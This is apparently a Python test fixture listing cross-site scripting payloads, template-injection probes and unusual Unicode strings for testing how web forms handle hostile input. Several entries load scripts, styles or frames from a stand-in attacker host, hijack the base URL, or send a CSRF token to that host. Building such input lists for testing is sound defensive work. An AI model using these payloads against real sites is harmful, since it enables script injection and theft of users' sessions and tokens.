"""What people have put into forms to have it done by the browsers of others (FORM-07)."""

_CALL = "alert(1)"
_SCRIPTS = [
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<noscript><p title='</noscript><script>{_CALL}</script>'>",
]
_HANDLERS = [
    f"<{tag} {event}={_CALL}>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("iframe", "onload"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("style", "onload"),
        ("p style=animation-name:x", "onanimationstart"),
    )
]
_QUOTES = [
    f"{quote}{middle}"
    for quote in ('"', "'", "`")
    for middle in (f" onmouseover={_CALL} x=", f"><img src=x onerror={_CALL}>")
]
_ADDRESSES = [
    f"{scheme}{_CALL}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        " javascript:",
        "\x01javascript:",
        "javascript&colon;",
        "vbscript:",
        "data:text/html,<script>",
        "https://example.org/&quot;onclick=",
    )
]
_LINKS = [
    f'<a href="javascript:{_CALL}">x</a>',
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf_token></form>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<embed src=//evil.example>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><script>alert(1)</script></svg>",
    "<template><script>alert(1)</script></template>",
]
_TEMPLATES = [
    "{{7*7}}",
    "{% raw %}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "%(name)s",
    "%s%n",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
]
_TEXTS = [
    "\u202egnp.exe",
    "\u2066\u2067abc",
    "a\x00b",
    "\x0b\x0c\x1b[31m",
    "\ufeff\u200b\u200b",
    "𝕬𝖉𝖆 👩‍👩‍👧 🏳️‍⚧️",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "﷽" * 5,
    "\ud800",
    "\ufffe\uffff",
    "ا" * 80,
]

PAYLOADS = [*_SCRIPTS, *_HANDLERS, *_QUOTES, *_ADDRESSES, *_LINKS, *_TEMPLATES, *_TEXTS]
